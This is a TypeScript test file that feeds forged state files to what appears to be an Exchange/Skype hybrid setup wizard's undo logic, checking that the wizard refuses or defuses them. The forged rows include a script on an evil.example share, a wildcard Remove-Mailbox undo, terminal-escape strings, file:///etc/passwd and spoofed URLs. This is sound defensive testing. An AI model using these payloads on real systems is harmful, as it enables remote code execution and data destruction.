// Forged state files, each with what must happen. They are played on what the honest servers show (played-again.ts); whatever a row
// says besides, nothing may be run or shown for a yes that an honest run's builders would not have built, and nothing without a yes.

import { describe, expect, test } from 'vitest';
import { sessionLog } from '../../src/log/session-log.ts';
import type { Change } from '../../src/model/change.ts';
import type { Json, JsonObject } from '../../src/model/json.ts';
import type { Fact, Record } from '../../src/model/record.ts';
import type { Aim, TakeBack } from '../../src/model/undo.ts';
import { exchangeCmdlet, skypeCmdlet } from '../../src/powershell/reader.ts';
import { render } from '../../src/powershell/render.ts';
import { sequence } from '../../src/steps/sequence.ts';
import { storyOf } from '../../src/story/story.ts';
import { matrixIn } from '../../src/wizard/matrix.ts';
import { summaryIn } from '../../src/wizard/summary.ts';
import { madeByIn } from '../../src/wizard/undo.ts';
import { chained, written } from './forged.ts';
import {
  asSet,
  finished,
  finishedLooks,
  honestCommands,
  type Played,
  play,
  readAsFile,
  type Servers,
  serversAfter,
} from './played-again.ts';

type Edit = (records: readonly Record[]) => readonly Record[];

const honest = serversAfter(finishedLooks);
const other = '11111111-2222-4333-8444-555555555555';
const stranger = 'AB'.repeat(20);
const hostile = '\u001B]52;c;ZXZpbA==\u0007\n\u202Eevil';
const evilScript = skypeCmdlet('\\\\evil.example\\share\\run.ps1');

const both =
  (...edits: readonly Edit[]): Edit =>
  (records) =>
    edits.reduce((edited, edit) => edit(edited), records);

const changed =
  (id: string, edit: (change: Change) => Partial<Change>): Edit =>
  (records) =>
    records.map((each) => {
      if (each.type === 'intent' && each.change.id === id) return { ...each, change: { ...each.change, ...edit(each.change) } };
      const isOf = (each.type === 'ended' || each.type === 'output' || each.type === 'settled') && each.change === id;
      const change = finished.flatMap((one) => (one.type === 'intent' && one.change.id === id ? [edit(one.change).id ?? id] : []))[0] ?? id;
      return isOf ? { ...each, change } : each;
    });
const fields = (id: string, more: JsonObject): Edit =>
  changed(id, ({ fields: known }) => ({
    fields: { ...(known !== null && typeof known === 'object' && !Array.isArray(known) ? known : {}), ...more },
  }));
/** The change `id` becomes another one, of the step that makes such changes. */
const instead = (id: string, now: string, said: Json): Edit =>
  both(
    changed(id, () => ({ id: now, fields: said })),
    (records) => {
      const step = sequence.find(({ claims }) => Object.hasOwn(claims, now.split(' ')[0] ?? ''));
      return records.map((each) =>
        each.type === 'intent' && each.change.id === now && step !== undefined ? { ...each, step: step.id } : each,
      );
    },
  );
const facts =
  <Type extends Fact['type']>(type: Type, more: Partial<Extract<Fact, { readonly type: Type }>>): Edit =>
  (records) =>
    records.map((each) => (each.type === type ? { ...each, ...more } : each));
const without =
  (...types: readonly Fact['type'][]): Edit =>
  (records) =>
    records.filter(({ type }) => !types.includes(type));
const atEnd =
  (...more: readonly Fact[]): Edit =>
  (records) => [...records, ...more.map(written)];
const atBeginning =
  (...more: readonly Fact[]): Edit =>
  (records) => [...records.slice(0, 1), ...more.map(written), ...records.slice(1)];

const seqOf = (id: string): number => finished.findIndex((each) => each.type === 'intent' && each.change.id === id) + 1;
const sees = (more: Partial<Extract<Fact, { type: 'world' }>>): Fact => ({ ...honest.world, ...more });
const guidIn = (seen: RegExp): string => seen.exec(JSON.stringify(finished))?.groups?.guid ?? '';
const own = guidIn(/"guid":"(?<guid>[^"]+)","enabled":true,"applicationId":/);
const account = guidIn(/"name":"LyncEnterprise-ApplicationAccount","guid":"(?<guid>[^"]+)"/);
const url = 'https://atl-cs-001.litwareinc.com/metadata/json/1';
const autodiscover = 'https://autodiscover.litwareinc.com/autodiscover/metadata/json/1';
const named = (shown: string) => JSON.stringify({ key: shown, shown });
const none = { applications: [], accounts: [], roles: [] };

/** The honest servers, with texts of their looks in another way. */
const serversWith = (...pairs: readonly (readonly [string, string])[]): Servers => {
  const looks = pairs.reduce((text, [was, now]) => text.replaceAll(was, now), JSON.stringify(honest.looks));
  expect(looks).not.toBe(JSON.stringify(honest.looks));
  return { ...honest, looks: JSON.parse(looks) };
};

type Must =
  /** The file is not read. */
  | { readonly refused: RegExp }
  /** Nothing is done before somebody decides. */
  | { readonly stops: string }
  /** The undo page says this of a change. */
  | { readonly of: string; readonly takeBack: TakeBack['kind']; readonly why?: RegExp }
  /** The undo page does not offer it at all. */
  | { readonly unlisted: string }
  /** The run asks or looks as if nothing of it stood in the file. */
  | { readonly goesOn: Played['demands'][number]['kind'] };

type Row = readonly [what: string, aim: Aim, edit: Edit, must: Must, servers?: Servers];

const cannot = (of: string, why: RegExp): Must => ({ of, takeBack: 'cannot', why });
const wrongly = /does not say rightly/;
const unknown = /does not know how/;

const rows: readonly Row[] = [
  // Commands, words and undos of the file
  [
    'a command that is a script on a share',
    'undo',
    changed('exchange-partner.create', () => ({ command: evilScript })),
    { of: 'exchange-partner.create', takeBack: 'run' },
  ],
  [
    'an undo that is a script on a share',
    'undo',
    changed('contacts.keep', () => ({ undo: { kind: 'run', commands: [evilScript] } })),
    { of: 'contacts.keep', takeBack: 'run' },
  ],
  [
    'an undo with another switch and prompt',
    'undo',
    changed('contacts.keep', () => ({
      prompts: { everything: 'yes' },
      undo: { kind: 'run', commands: [exchangeCmdlet('Remove-Mailbox', { parameters: { Identity: '*' } })] },
    })),
    { of: 'contacts.keep', takeBack: 'run' },
  ],
  [
    'words that a terminal obeys',
    'undo',
    changed('contacts.keep', () => ({ words: hostile, because: [hostile], shows: [hostile] })),
    { of: 'contacts.keep', takeBack: 'run' },
  ],
  // Ids
  ['an id that is in no list', 'undo', instead('contacts.keep', 'evil.run', {}), cannot('evil.run', unknown)],
  ['an id that every object has', 'undo', instead('contacts.keep', 'constructor', {}), cannot('constructor', unknown)],
  ['an id with escapes', 'undo', instead('contacts.keep', `contacts.${hostile}`, {}), cannot('contacts.', unknown)],
  [
    'an id of another kind of change',
    'undo',
    changed('exchange-partner.create', () => ({ id: 'exchange-partner.mend' })),
    cannot('exchange-partner.mend', wrongly),
  ],
  [
    'a change that claims to take another back',
    'undo',
    fields('partner.script', { takesBack: seqOf('contacts.keep') }),
    { unlisted: 'partner.script' },
  ],
  [
    'an undo of a change that never was',
    'undo',
    instead('contacts.keep', 'undo contacts.keep: Set-CsUserServicesPolicy Global', { takesBack: 999 }),
    { unlisted: 'undo' },
  ],
  // Fields of another shape
  ['fields that are a text', 'undo', changed('partner.script', () => ({ fields: 'evil' })), cannot('partner.script', wrongly)],
  ['fields that are a list', 'undo', changed('partner.script', () => ({ fields: [none] })), cannot('partner.script', wrongly)],
  ['a field too many', 'undo', fields('partner.script', { command: 'evil' }), cannot('partner.script', wrongly)],
  [
    'a secret as a field',
    'undo',
    fields('autodiscover-url.set', { was: { kind: 'secret', ref: 'shells.exchange.password', as: 'text' } }),
    cannot('autodiscover-url.set', wrongly),
  ],
  [
    'a list of 10,000 roles',
    'undo',
    fields('partner.script', { roles: Array.from({ length: 10_000 }, (_, at) => `role ${at}`) }),
    { of: 'partner.script', takeBack: 'run' },
  ],
  // What it never made
  [
    'hybrid’s entry by its name',
    'undo',
    fields('exchange-partner.create', { identity: 'microsoft.exchange' }),
    { of: 'exchange-partner.create', takeBack: 'nothing' },
  ],
  [
    'hybrid’s entry under our name',
    'undo',
    (records) => records,
    cannot('exchange-partner.create', /none of the wizard's/),
    serversWith([`"metadataUrl":${named(autodiscover)},"keys":"document"`, '"metadataUrl":null,"keys":"OAuth server"']),
  ],
  [
    'our entry in other letters',
    'undo',
    fields('exchange-partner.create', { identity: 'EXCHANGE' }),
    { of: 'exchange-partner.create', takeBack: 'run' },
  ],
  [
    'every entry there is',
    'undo',
    fields('exchange-partner.create', { identity: '*' }),
    { of: 'exchange-partner.create', takeBack: 'nothing' },
  ],
  [
    'an entry that uses an authorization server',
    'undo',
    (records) => records,
    { of: 'partner.script', takeBack: 'changed', why: /^The account .* stay/ },
    serversWith(['"usesAuthServer":false', '"usesAuthServer":true']),
  ],
  [
    'an entry of another application',
    'undo',
    (records) => records,
    { of: 'partner.script', takeBack: 'changed', why: /^The account .* stay/ },
    serversWith(['"applicationId":"00000004-0000-0ff1-ce00-000000000000"', '"applicationId":"00000007-0000-0ff1-ce00-000000000000"']),
  ],
  [
    'the entry of another Skype',
    'undo',
    instead('contacts.keep', 'partner.move', { application: other, url, was: url }),
    { of: 'partner.move', takeBack: 'nothing' },
  ],
  [
    'an account that is not of the script',
    'undo',
    instead('contacts.keep', 'partner.account', { name: 'Administrator', ...none }),
    cannot('partner.account', wrongly),
  ],
  [
    'an account that somebody uses',
    'undo',
    (records) => records,
    { of: 'partner.script', takeBack: 'run' },
    serversWith(['"type":"MailUser"', '"type":"UserMailbox"']),
  ],
  [
    'an account that is switched on',
    'undo',
    (records) => records,
    { of: 'partner.script', takeBack: 'run' },
    serversWith(['"disabled":true', '"disabled":false']),
  ],
  [
    'assignments that delegate, or come through a group',
    'undo',
    (records) => records,
    { of: 'partner.script', takeBack: 'run' },
    serversWith(['"direct":true,"grants":true', '"direct":false,"grants":true']),
  ],
  [
    'a role that is none of the three',
    'undo',
    instead('contacts.keep', 'partner.role Organization Management', { account, ...none }),
    cannot('partner.role', wrongly),
  ],
  [
    'a role of somebody else’s account',
    'undo',
    instead('contacts.keep', 'partner.role UserApplication', { account: other, ...none }),
    { of: 'partner.role', takeBack: 'nothing' },
  ],
  // Restored values
  ...[
    'https://evil.example/a.svc',
    'http://autodiscover.litwareinc.com/a.svc',
    'https://autodiscover.litwareinc.com@evil.example/',
    'https://autodiscover.litwareinc.com:8443/',
    'file:///etc/passwd',
    '\\\\evil.example\\share',
    `https://evil.example/${'a'.repeat(4000)}`,
    'https://autodiscover.litwareinc.com.evil.example/',
  ].map(
    (was): Row => [
      `an Autodiscover address ${was.slice(0, 60)}`,
      'undo',
      fields('autodiscover-url.set', { was }),
      { of: 'autodiscover-url.set', takeBack: 'refused', why: /type this yourself/ },
    ],
  ),
  [
    'an Autodiscover address with escapes',
    'undo',
    fields('autodiscover-url.set', { was: `https://autodiscover.litwareinc.com/${hostile}` }),
    cannot('autodiscover-url.set', wrongly),
  ],
  [
    'a known Autodiscover host whose answer nobody saw',
    'undo',
    fields('autodiscover-url.set', { was: 'https://autodiscover.litwareinc.com/other.svc' }),
    { of: 'autodiscover-url.set', takeBack: 'refused', why: /was not seen to be/ },
  ],
  [
    'a metadata address of another host',
    'undo',
    instead('contacts.keep', 'partner.move', { application: own, url, was: 'https://evil.example/metadata/json/1' }),
    { of: 'partner.move', takeBack: 'refused', why: /type this yourself/ },
  ],
  [
    'a metadata address with a user',
    'undo',
    instead('contacts.keep', 'partner.move', { application: own, url, was: 'https://atl-cs-001.litwareinc.com@evil.example/' }),
    { of: 'partner.move', takeBack: 'refused' },
  ],
  [
    'a trust level above the live one',
    'undo',
    instead('exchange-partner.create', 'exchange-partner.mend', {
      identity: 'Exchange',
      url: 'https://autodiscover.litwareinc.com/autodiscover/metadata/json/1',
      authCertificate: null,
      was: { url: null, trust: 'Full', enabled: true },
    }),
    { of: 'exchange-partner.mend', takeBack: 'changed', why: /trust level is User/ },
    serversWith(['"trust":"Full"', '"trust":"User"']),
  ],
  [
    'a trust level that there is none of',
    'undo',
    instead('exchange-partner.create', 'exchange-partner.mend', {
      identity: 'Exchange',
      url: 'https://autodiscover.litwareinc.com/autodiscover/metadata/json/1',
      authCertificate: null,
      was: { url: 'https://autodiscover.litwareinc.com/autodiscover/metadata/json/1', trust: 'Everything', enabled: true },
    }),
    { of: 'exchange-partner.mend', takeBack: 'refused', why: /more than it has now/ },
  ],
  [
    'a link to an account that may do more',
    'undo',
    instead('contacts.keep', 'partner.link', { application: own, account, called: 'x', was: 'litwareinc.com/Users/Administrator' }),
    { of: 'partner.link', takeBack: 'refused', why: /was not looked at/ },
  ],
  [
    'a thumbprint of a stranger',
    'undo',
    instead('contacts.keep', 'oauth.assign', { thumbprint: stranger, was: 'CD'.repeat(20) }),
    { of: 'oauth.assign', takeBack: 'changed' },
  ],
  [
    'a thumbprint that is none',
    'undo',
    instead('contacts.keep', 'oauth.assign', { thumbprint: '*', was: null }),
    cannot('oauth.assign', wrongly),
  ],
  [
    'a date that does not exist',
    'undo',
    instead('contacts.keep', 'oauth.roll', { thumbprint: stranger, was: null, effective: '2026-02-31T00:00:00Z' }),
    cannot('oauth.roll', wrongly),
  ],
  [
    'a policy named like a parameter',
    'undo',
    instead('contacts.keep', 'contacts.pilot-policy', { policy: '* -Confirm:$false' }),
    cannot('contacts.pilot-policy', /Remove-CsUserServicesPolicy removes it\.$/),
  ],
  [
    'a server that is none of today’s, told no address',
    'undo',
    instead('contacts.keep', 'internal-uri evil.example', { url: 'https://evil.example/' }),
    { of: 'internal-uri', takeBack: 'not seen' },
  ],
  [
    'a restart of a server that is not there',
    'undo',
    instead('restart atl-exchange-001.litwareinc.com', 'restart evil.example', { workers: null, changes: [] }),
    cannot('restart evil.example', /changes no setting/),
  ],
  [
    'a restart with arguments for a server',
    'undo',
    changed('restart atl-exchange-001.litwareinc.com', () => ({ id: 'restart evil.example /reboot' })),
    cannot('restart', wrongly),
  ],
  // Half done, begun, or never ended
  [
    'a restart of another server that is half done',
    'set up',
    both(
      without('closed'),
      instead('restart atl-exchange-001.litwareinc.com', 'restart evil.example', { workers: null, changes: [] }),
      atEnd({ type: 'settled', step: 'iisRestart', change: 'restart evil.example', settled: 'half done' }),
    ),
    { goesOn: 'read' },
  ],
  [
    'a change without an end',
    'undo',
    (records) => records.filter((each) => each.type !== 'ended' || each.change !== 'partner.script'),
    { of: 'partner.script', takeBack: 'run' },
  ],
  [
    'an end without a change',
    'undo',
    atBeginning({
      type: 'ended',
      step: 'servers',
      change: 'contacts.keep',
      end: { kind: 'ended', hadErrors: false, exitCode: 0 },
      seconds: -1,
    }),
    { of: 'contacts.keep', takeBack: 'run' },
  ],
  // Whose servers
  ['another organisation', 'undo', facts('world', { guid: other }), { stops: 'organisation.another' }],
  ['another organisation, put before the right one', 'undo', atBeginning(sees({ guid: other })), { stops: 'organisation.another' }],
  [
    'the right organisation, put behind another',
    'undo',
    both(facts('world', { guid: other }), atEnd(sees({}))),
    { stops: 'organisation.another' },
  ],
  ['the organisation twice', 'undo', atBeginning(sees({})), { of: 'partner.script', takeBack: 'run' }],
  ['no organisation', 'undo', without('world'), { stops: 'organisation.unknown' }],
  ['an organisation that was not seen', 'undo', facts('world', { guid: null }), { stops: 'organisation.unknown' }],
  ['an organisation that came after the first change', 'undo', both(without('world'), atEnd(sees({}))), { stops: 'organisation.unknown' }],
  ['an organisation with escapes', 'undo', facts('world', { guid: hostile, name: hostile }), { stops: 'organisation.another' }],
  [
    'no organisation, and a word to go on all the same',
    'undo',
    both(without('world'), atEnd({ type: 'decided', step: 'servers', about: 'organisation.unknown', option: 'go on anyway' })),
    { stops: 'organisation.unknown' },
  ],
  // What was agreed, waited for, decided
  [
    'a yes to every plan there was',
    'set up',
    both(without('closed'), (records) => [...records, ...records.filter(({ type }) => type === 'confirmed')]),
    { goesOn: 'confirm' },
  ],
  [
    'waits that were met',
    'set up',
    both(
      without('closed'),
      atEnd({
        type: 'waited',
        step: 'exchangeAsPartner',
        wait: 'exchange-partner.replicated',
        met: true,
        saw: hostile,
        source: 'reported',
        isDown: false,
        seconds: -1,
      }),
    ),
    { goesOn: 'confirm' },
  ],
  [
    'an undo that was chosen',
    'undo',
    atEnd({ type: 'undoing', changes: [seqOf('partner.script'), seqOf('partner.script'), 999] }),
    { goesOn: 'undo' },
  ],
  [
    'an undo that is over',
    'undo',
    atEnd({ type: 'undoing', changes: [seqOf('partner.script')] }, { type: 'closed', verdict: 'taken back' }),
    { of: 'partner.script', takeBack: 'run' },
  ],
  [
    '"done" in the middle of an untouched file',
    'set up',
    (records) => [...records.slice(0, 1), written({ type: 'closed', verdict: 'done' })],
    { goesOn: 'look' },
  ],
  [
    'tests that passed, told at the end',
    'set up',
    both(without('closed'), (records) => [...records, ...records.filter(({ type }) => type === 'output' || type === 'ended')]),
    { goesOn: 'confirm' },
  ],
  [
    'where it connects to',
    'set up',
    both(without('closed'), atEnd({ type: 'targets', targets: [{ to: hostile, protocol: '', account: '', key: null }] })),
    { goesOn: 'confirm' },
  ],
  [
    'who drove, and where it went on',
    'undo',
    atEnd({ type: 'driven', driver: hostile }, { type: 'handed over', to: hostile }),
    { of: 'partner.script', takeBack: 'run' },
  ],
  [
    'who had it open, and what was salvaged',
    'undo',
    atEnd(
      { type: 'took over', from: { on: hostile, by: hostile, tool: hostile, pid: 1, since: 'never' }, why: 'told to' },
      { type: 'salvaged', from: hostile, line: 0, bytes: 0, sha256: '0'.repeat(64) },
    ),
    { of: 'partner.script', takeBack: 'run' },
  ],
  [
    'output that a terminal obeys',
    'undo',
    facts('output', { lines: [{ stream: 'output', text: hostile }] }),
    { of: 'partner.script', takeBack: 'run' },
  ],
  // Answers
  [
    'ways to shells, in a lab',
    'undo',
    atEnd({ type: 'answered', step: 'servers', key: 'shells.exchange.server', value: 'evil.example' }),
    { of: 'partner.script', takeBack: 'run' },
  ],
  [
    'a share for an answer',
    'undo',
    atEnd({ type: 'answered', step: 'certificates', key: 'certificates.pfxPath', value: '\\\\evil.example\\a.pfx' }),
    { of: 'partner.script', takeBack: 'run' },
  ],
  ['a list where a text is asked', 'set up', both(without('closed'), facts('answered', { value: ['a', 'b'] })), { goesOn: 'ask' }],
  [
    '2,000 answers',
    'undo',
    atEnd(...Array.from({ length: 2000 }, (_, at): Fact => ({ type: 'answered', step: 'servers', key: `key ${at}`, value: 'x' }))),
    { of: 'partner.script', takeBack: 'run' },
  ],
  ['an address that is a file', 'set up', both(without('closed'), facts('answered', { value: 'file:///etc/passwd' })), { goesOn: 'ask' }],
  // The file itself
  [
    'a history in a history',
    'undo',
    atEnd({ type: 'opened', world: 'lab', lineage: other, tool: 'evil' }),
    { refused: /belongs to the history of another file/ },
  ],
  [
    'a history of real servers in one of a lab',
    'undo',
    (records) =>
      records.map((each, at) =>
        at > 0 && each.type === 'closed' ? written({ type: 'opened', world: 'real', lineage: '', tool: '' }) : each,
      ),
    { refused: /belongs to the history of another file/ },
  ],
  [
    'one more opening of the same history',
    'undo',
    (records) => [...records, ...records.slice(0, 1)],
    { of: 'partner.script', takeBack: 'run' },
  ],
  ['no beginning', 'undo', (records) => records.slice(1), { refused: /the beginning of the history is missing/ }],
  [
    'an instant beyond all calendars',
    'undo',
    (records) => records.map((each) => ({ ...each, at: '+275760-09-13T00:00:00.001Z' })),
    { refused: /its part "at"/ },
  ],
  [
    'an instant of no day',
    'undo',
    (records) => records.map((each) => ({ ...each, at: '2026-13-41T00:00:00.000Z' })),
    { refused: /its part "at"/ },
  ],
  [
    'the last day of the calendar',
    'undo',
    (records) => records.map((each) => ({ ...each, at: '9999-12-31T23:59:59.999Z' })),
    { of: 'partner.script', takeBack: 'run' },
  ],
];

const itemsIn = ({ demands }: Played) => demands.flatMap((each) => (each.kind === 'undo' ? each.items : []));

function meets({ demands, ...rest }: Played, must: Exclude<Must, { refused: RegExp }>): void {
  if ('stops' in must) {
    expect(demands.at(-1)).toMatchObject({ kind: 'way out', trouble: { about: must.stops } });
    return;
  }
  if ('goesOn' in must) {
    expect(demands.map(({ kind }) => kind)).toContain(must.goesOn);
    return;
  }
  const items = itemsIn({ demands, ...rest });
  expect(items).not.toEqual([]);
  if ('unlisted' in must) {
    expect(items.filter(({ id }) => id.startsWith(must.unlisted))).toEqual([]);
    return;
  }
  const item = items.find(({ id }) => id.startsWith(must.of));
  expect(item?.takeBack).toMatchObject({ kind: must.takeBack });
  if (must.why !== undefined) expect(item?.takeBack).toMatchObject({ why: expect.stringMatching(must.why) });
}

const usual = honestCommands();

describe('a state file with', () => {
  for (const [what, aim, edit, must, servers = honest] of rows)
    test(`${what} (${aim})`, () => {
      const read = readAsFile(chained(edit(finished)));
      if ('refused' in must || read.kind === 'refused') {
        expect(read).toMatchObject({ kind: 'refused', words: expect.stringMatching('refused' in must ? must.refused : /^$/) });
        return;
      }
      const played = play(read.records, servers, aim);
      meets(played, must);
      expect([...asSet(played.commands)].filter((each) => !usual.has(each))).toEqual([]);
      expect(played.unasked).toEqual([]);
      expect(logOf(read.records)).not.toMatch(/[\u001B\u0007\u202E]/);
    });
});

function logOf(records: readonly Record[]): string {
  const story = storyOf(records);
  const options = {
    fingerprint: '',
    render,
    madeBy: madeByIn(story, sequence),
    redact: (text: string) => text,
    steps: sequence,
    renew: '',
    matrix: matrixIn(story, sequence),
    zone: 'UTC',
  };
  return (['md', 'html', 'jsonl'] as const)
    .flatMap((format) => [...sessionLog(story, { ...options, format, title: '', calendar: summaryIn(story, sequence).calendar })])
    .join('\n');
}
